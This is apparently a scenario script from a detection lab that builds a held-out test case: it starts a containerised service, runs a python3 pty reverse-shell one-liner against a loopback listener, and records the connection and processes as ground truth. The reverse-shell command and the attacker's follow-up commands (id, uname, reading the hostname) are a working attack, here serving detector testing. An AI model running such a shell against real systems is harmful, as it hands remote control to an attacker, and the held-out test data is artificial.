#!/bin/bash
# Scenario ptyshell-py (held-out variant of the reverse shells): the classic upgrade to a
# full terminal, `python3 -c '...s.connect((H,P)); dup2 to 0,1,2; pty.spawn("/bin/bash")'`.
# python holds the connection (on its stdin, stdout, stderr) and the pseudo-terminal's
# master; bash runs on the slave /dev/pts/N and holds no socket. The attacker on
# 127.183.x.y runs a few commands; the last, a sleep, is still running at the checkpoint.
# Differs from revshell-py (bash on the socket itself) and revshell-socat (a socket pair)
# by the relay: a pseudo-terminal.
# Usage: lab/scenarios/ptyshell-py.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init ptyshell-py "$@"
lab_use_tools_image

REV="$(lab_addr 183):$(lab_pick 443 8000 8443 9001 50050)"
COMMAND="python3 -c 'import os,pty,socket;s=socket.create_connection((\"${REV%:*}\",${REV#*:}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'"
CMDS='id|uname -a|cat /etc/hostname|sleep 3000'

lab_shell_listener "$REV" "$CMDS"

lab_run --env APP_ENV=prod --hostname report-api -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_exec_bg "$COMMAND"
lab_wait_shell_done

lab_finish /var/log/app.log

lab_kv_json "$WORK/params.json" "listener=$REV" "command=$COMMAND" "attacker_commands:=$(IFS='|'; lab_json_list $CMDS)"
lab_facts --conn "relay=$REV" --proc "shell=^/bin/bash$" --proc "running=^sleep 3000"
lab_truth --description "reverse shell through a pseudo-terminal: $COMMAND" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
